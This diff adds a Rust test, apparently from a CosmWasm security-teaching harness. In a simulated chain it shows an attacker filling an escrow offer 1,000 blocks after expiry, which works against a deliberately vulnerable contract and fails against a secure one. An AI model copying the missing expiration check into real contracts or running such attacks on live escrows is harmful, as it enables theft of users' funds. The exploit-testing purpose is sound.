@@ -0,0 +1,69 @@
+//! Filling an offer long after it expired
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coin, coins, Empty};
+use cw_multi_test::{Contract, ContractWrapper};
+use cw_utils::Expiration;
+
+use crate::contracts::expired_offer::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM, USD};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "expired_offer",
+    description: "Taker accepts an offer 1,000 blocks after it expired",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "Offer expired",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (maker, taker) = (h.victim.clone(), h.attacker.clone());
+
+    let escrow = h.deploy(code(), &InstantiateMsg {}, &[], "escrow")?;
+
+    let expires = Expiration::AtHeight(h.app.block_info().height + 100);
+    h.execute(
+        &maker,
+        &escrow,
+        &ExecuteMsg::CreateOffer {
+            ask: coin(10_000, USD),
+            expires,
+        },
+        &coins(1_000, ATOM),
+    )?;
+
+    h.advance_blocks(1_000);
+    ensure!(
+        expires.is_expired(&h.app.block_info()),
+        "offer should have expired"
+    );
+
+    let before = h.balance(&taker, ATOM);
+    h.execute(
+        &taker,
+        &escrow,
+        &ExecuteMsg::AcceptOffer { id: 0 },
+        &coins(10_000, USD),
+    )?;
+
+    ensure!(
+        h.balance(&taker, ATOM) == before + 1_000,
+        "expired offer was not filled"
+    );
+    Ok(())
+}